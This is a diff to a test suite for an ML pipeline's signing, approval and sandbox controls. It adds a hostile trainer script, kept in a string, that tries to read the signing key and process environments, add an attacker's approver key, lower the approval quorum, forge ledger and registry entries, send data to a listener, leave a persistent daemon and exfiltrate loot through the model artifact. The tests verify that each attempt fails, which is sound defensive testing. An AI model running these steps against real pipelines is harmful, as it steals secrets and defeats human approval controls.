@@ -20,7 +20,7 @@ import pytest
 from airlock.ledger import Ledger
 from flows import demo
 from airlock.gitutil import isolated_env
-from tests.conftest import ROOT, commit
+from tests.conftest import ROOT, assert_one_line_refusal, commit, run_cli
 
 pytestmark = pytest.mark.slow
 
@@ -42,10 +42,13 @@ def work(tmp_path):
     for old, new in (("stand_in_models = 5", "stand_in_models = 1\nimages = 100\nsteps = 60"),
                      ("ratio_no_production = 0.71", "ratio_no_production = 0.5"),
                      ("[advisory]               # membership inference, extraction effort, spectral signatures: "
-                      "reported, never blocking\nenabled = true", "[advisory]\nenabled = false")):
+                      "reported, never blocking\nenabled = true", "[advisory]\nenabled = false"),
+                     ('model_signing_public_key = "trust/model_signing.pub"',
+                      'model_signing_public_key = "trust/model_signing.pub"\nrevoked_keys = "trust/revoked_keys"')):
         assert old in text, old
         text = text.replace(old, new)
     paths["policy"].write_text(text)
+    (paths["trust"] / "revoked_keys").write_text("")          # revocations take effect at decision time
     return paths
 
 
@@ -148,7 +151,7 @@ def test_model_below_threshold_is_never_signed(work, prefect_api):
 
 
 def test_bad_approvals_are_refused_while_the_run_waits_then_it_times_out(work, prefect_api, keys):
-    set_policy(work, "approval", "timeout_seconds", "35")
+    set_policy(work, "approval", "timeout_seconds", "45")
     proc = start_run(work, prefect_api)
     try:
         run_id = wait_for_pause(work, proc)
@@ -172,6 +175,13 @@ def test_bad_approvals_are_refused_while_the_run_waits_then_it_times_out(work, p
         again = approve(work, prefect_api, run_id, keydir / "alice")
         assert again.returncode == 1 and "already approved" in again.stderr
 
+        # Bob's key is revoked while the run waits: the run's copy of the trust roots predates it, the decision
+        # reads the revocation list in force now.
+        (work["trust"] / "revoked_keys").write_text((keydir / "bob.pub").read_text())
+        revoked = approve(work, prefect_api, run_id, keydir / "bob")
+        assert revoked.returncode == 1, revoked.stdout + revoked.stderr
+        assert "bob@airlock.demo is revoked" in revoked.stderr and "in force now" in revoked.stderr
+
         out, err = proc.communicate(timeout=120)
     finally:
         if proc.poll() is None:
@@ -180,13 +190,15 @@ def test_bad_approvals_are_refused_while_the_run_waits_then_it_times_out(work, p
     assert "1 of 2 required approvals" in out and "nothing was promoted" in out
     assert not (work["registry"] / "production").exists()
     k = kinds(work)
-    assert k.count("approval.received") == 4 and "approval.timeout" in k and k[-1] == "run.failed"
+    assert k.count("approval.received") == 5 and "approval.timeout" in k and k[-1] == "run.failed"
     received = [e["data"]["verdict"] for e in Ledger(work["ledger"]).entries() if e["kind"] == "approval.received"]
-    assert received == ["fail", "fail", "pass", "fail"]
+    assert received == ["fail", "fail", "pass", "fail", "fail"]
     Ledger(work["ledger"]).verify()
 
 
 def test_a_rejection_ends_the_run(work, prefect_api):
+    """Run where the policy declares the pod to be the sandbox: recorded, signed and shown to the approver."""
+    set_policy(work, "sandbox", "mode", '"environment"')
     proc = start_run(work, prefect_api)
     try:
         run_id = wait_for_pause(work, proc)
@@ -199,6 +211,25 @@ def test_a_rejection_ends_the_run(work, prefect_api):
     assert proc.returncode == 1
     assert "bob@airlock.demo rejected the model: golden drift" in out
     assert not (work["registry"] / "production").exists()
+    assert "WARNING: team code ran without Airlock's sandbox" in res.stdout
+    staged = next((work["registry"] / "staging").glob("[0-9a-f]*"))
+    prov = json.loads((staged / "model" / "provenance.json").read_text())
+    assert prov["sandbox"]["mode"] == "environment" and prov["sandbox"]["isolated"] is False
+    bom = json.loads((staged / "model" / "aibom.cdx.json").read_text())
+    props = {p["name"]: p["value"] for p in bom["metadata"]["component"]["properties"]}
+    assert props["airlock:sandbox:mode"] == "environment" and props["airlock:sandbox:isolated"] == "false"
+
+
+def test_the_run_refuses_when_the_sandbox_cannot_start(work, prefect_api):
+    text = work["policy"].read_text().replace('mode = "bubblewrap"', 'mode = "bubblewrap"\nbubblewrap = "/nonexistent/bwrap"')
+    work["policy"].write_text(text)
+    res = run_to_end(work, prefect_api)
+    assert res.returncode == 1, res.stdout + res.stderr
+    assert "bubblewrap (/nonexistent/bwrap) is not installed" in res.stdout and "apt-get install bubblewrap" in res.stdout
+    assert "Traceback" not in res.stdout + res.stderr
+    assert nothing_staged_or_promoted(work)
+    assert "commit" not in {e["data"].get("gate") for e in Ledger(work["ledger"]).entries() if e["kind"] == "gate.verdict"}
+    assert kinds(work)[-1] == "run.failed"
 
 
 def test_demo_end_to_end_with_approvals_from_separate_processes(tmp_path):
@@ -240,6 +271,17 @@ def test_after_a_promotion_every_commit_since_production_must_be_signed(work, pr
         if proc.poll() is None:
             proc.kill()
     assert proc.returncode == 0, out + err
+
+    # `airlock verify` judges production by the trust roots and the policy in force now, and names the cause.
+    verify = ["verify", "--config", str(work["policy"])]
+    (work["trust"] / "revoked_keys").write_text((work["keys"] / "alice.pub").read_text())
+    assert_one_line_refusal(run_cli(*verify), 1, "do not meet the policy in force", "alice@airlock.demo is revoked")
+    (work["trust"] / "revoked_keys").write_text("")
+    set_policy(work, "approval", "quorum", "3")
+    assert_one_line_refusal(run_cli(*verify), 1, "do not meet the policy in force", "2 of 3 required approvals")
+    set_policy(work, "approval", "quorum", "2")
+    assert run_cli(*verify).returncode == 0
+
     production_commit = next(e for e in Ledger(work["ledger"]).entries()
                              if e["kind"] == "gate.verdict" and e["data"]["gate"] == "commit")["data"]["evidence"]["commit"]
 
@@ -274,3 +316,142 @@ def test_after_a_promotion_every_commit_since_production_must_be_signed(work, pr
     assert verdicts["backdoor"]["verdict"] == "pass"
     assert "reference_robust_accuracy" in verdicts["robustness"]["metrics"]
     assert "p=" in verdicts["golden_regression"]["reason"]
+
+
+HOSTILE_TRAINER = r'''
+"""A signed commit's trainer that attacks everything it can name, then trains normally so the run goes on."""
+import glob, json, os, socket, sys, time
+
+W, PORT, TOKEN, AIRLOCK_INIT = {workdir!r}, {port!r}, {token!r}, {airlock_init!r}
+OUT = sys.argv[sys.argv.index("--out") + 1]
+loot = {{}}
+
+
+def attempt(name, fn):
+    try:
+        loot[name] = fn()
+    except Exception as e:  # noqa: BLE001
+        loot[name] = "refused: " + type(e).__name__
+
+
+def append(path, text):
+    with open(path, "a") as f:
+        f.write(text)
+    return "WROTE"
+
+
+def environ():
+    found = []
+    for p in glob.glob("/proc/*/environ"):
+        try:
+            found.append(open(p, "rb").read().decode(errors="replace"))
+        except OSError:
+            pass
+    return found
+
+
+def lower_quorum():
+    text = open(W + "/airlock.toml").read().replace("quorum = 2", "quorum = 1")
+    open(W + "/airlock.toml", "w").write(text)
+    return "WROTE"
+
+
+attempt("signing_key", lambda: open(W + "/keys/model_signing.key").read())
+attempt("environ", environ)
+attempt("approvers", lambda: append(W + "/trust/approvers", 'mallory@evil namespaces="airlock-approval" ssh-ed25519 AAAA\n'))
+attempt("run_trust_copy", lambda: [append(p, "mallory\n") for p in glob.glob(W + "/runs/*/trust/approvers")] or "none found")
+attempt("policy", lower_quorum)
+attempt("registry", lambda: (os.makedirs(W + "/registry/production", exist_ok=True),
+                             append(W + "/registry/production/CURRENT", "{{}}"))[1])
+attempt("ledger", lambda: append(W + "/ledger.jsonl", json.dumps({{"seq": 999, "kind": "registry.promote"}}) + "\n"))
+attempt("airlock_source", lambda: append(AIRLOCK_INIT, "\n# owned\n"))
+attempt("outside_out", lambda: append(os.path.join(OUT, "..", "model", "extra.py"), "x"))
+attempt("network", lambda: (socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"stolen"), "SENT")[1])
+if os.fork() == 0:                      # a daemon that outlives the trainer and keeps writing into the model
+    os.setsid()
+    if os.fork() == 0:
+        os.execvp(sys.executable, [sys.executable, "-c", "import sys, time\nwhile True:\n"
+                  " open(sys.argv[1] + '/extra.bin', 'ab').write(b'x'); time.sleep(0.05)", OUT, TOKEN])
+    os._exit(0)
+
+from training.train import main as _real_main  # noqa: E402
+
+rc = _real_main(sys.argv[1:])
+meta = json.load(open(os.path.join(OUT, "training.json")))
+meta["loot"] = loot                    # exfiltrate through the artifact, the one thing that leaves
+json.dump(meta, open(os.path.join(OUT, "training.json"), "w"))
+time.sleep(0.3)
+sys.exit(rc)
+'''
+
+
+def test_a_hostile_trainer_changes_nothing_and_a_trust_copy_changed_under_the_run_fails_it(work, prefect_api):
+    """The issue's attacker, as a signed commit: it reads nothing, writes nothing that matters, reaches no one,
+    leaves nothing running; the run goes on to the approval pause. Then a trust copy changed while the run waits
+    fails it at the next decision, naming the file."""
+    import hashlib
+    import socket
+    import uuid
+
+    import airlock
+
+    token = f"airlock-daemon-{uuid.uuid4().hex}"
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen(1)
+    server.settimeout(0.2)
+    wd = work["workdir"]
+    (work["repo"] / "training" / "hostile.py").write_text(HOSTILE_TRAINER.format(
+        workdir=str(wd), port=server.getsockname()[1], token=token, airlock_init=airlock.__file__))
+    set_policy(work, "training", "command", '["{python}", "-m", "training.hostile"]')
+    commit(work["repo"], "faster training", key=work["keys"] / "committer", email=demo.COMMITTER)
+    watched = [wd / "keys" / "model_signing.key", wd / "trust" / "approvers", wd / "airlock.toml",
+               Path(airlock.__file__)]
+    before = {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in watched}
+
+    secrets = {"AIRLOCK_SIGNING_KEY": str(wd / "keys" / "model_signing.key"), "PREFECT_API_KEY": "pnu_flow_secret"}
+    proc = subprocess.Popen([sys.executable, "-m", "flows.cli", "run", "--config", str(work["policy"])], cwd=ROOT,
+                            env={**os.environ, "PREFECT_API_URL": prefect_api, **secrets}, stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE, text=True)
+    try:
+        run_id = wait_for_pause(work, proc)
+        with pytest.raises(socket.timeout):
+            server.accept()                                        # nothing reached the host's listener
+        assert subprocess.run(["pgrep", "-f", token], capture_output=True).stdout == b""   # no survivor
+        assert {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in watched} == before
+        assert not (work["registry"] / "production").exists()
+        Ledger(work["ledger"]).verify()                            # every entry Airlock's own, chain intact
+        staged = next((work["registry"] / "staging").glob("[0-9a-f]*"))
+        model = staged / "model"
+        assert sorted(p.name for p in model.iterdir()) == ["aibom.cdx.json", "evidence", "model.safetensors",
+                                                          "provenance.json", "training.json"]
+        loot = json.loads((model / "training.json").read_text())["loot"]
+        # What it read or sent: nothing. (What it "wrote" landed at most in the sandbox's own /tmp, which is
+        # gone: the host files above are unchanged, no registry or ledger entry appeared.)
+        for name in ("signing_key", "network"):
+            assert str(loot[name]).startswith("refused"), (name, loot[name])
+        assert loot["run_trust_copy"] == "none found"
+        assert not (staged.parent.parent / "model").exists() and not (wd / "runs" / run_id / "model" / "extra.py").exists()
+        dumped = json.dumps(loot)
+        assert "PRIVATE KEY" not in dumped and "pnu_flow_secret" not in dumped and "AIRLOCK_SIGNING_KEY" not in dumped
+        # The run's trust copies are what was read at the start (recorded in the commit gate's evidence).
+        roots = next(e for e in Ledger(work["ledger"]).entries() if e["kind"] == "gate.verdict"
+                     and e["data"]["gate"] == "commit")["data"]["evidence"]["trust_roots"]["sha256"]
+        copy = wd / "runs" / run_id / "trust" / "approvers"
+        assert hashlib.sha256(copy.read_bytes()).hexdigest() == roots["approvers"]
+
+        first = approve(work, prefect_api, run_id, work["keys"] / "alice")
+        assert first.returncode == 0, first.stdout + first.stderr
+        with open(copy, "a") as f:                                 # written by anyone but the run itself
+            f.write('mallory@evil namespaces="airlock-approval" ssh-ed25519 AAAA\n')
+        second = approve(work, prefect_api, run_id, work["keys"] / "bob")
+        assert second.returncode == 1 and "changed during the run" in second.stderr, second.stdout + second.stderr
+        out, err = proc.communicate(timeout=120)
+    finally:
+        server.close()
+        if proc.poll() is None:
+            proc.kill()
+    assert proc.returncode == 1, out + err
+    assert "the run's copy of trust.approvers" in out and "changed during the run" in out
+    assert not (work["registry"] / "production").exists()
+    assert kinds(work)[-1] == "run.failed"
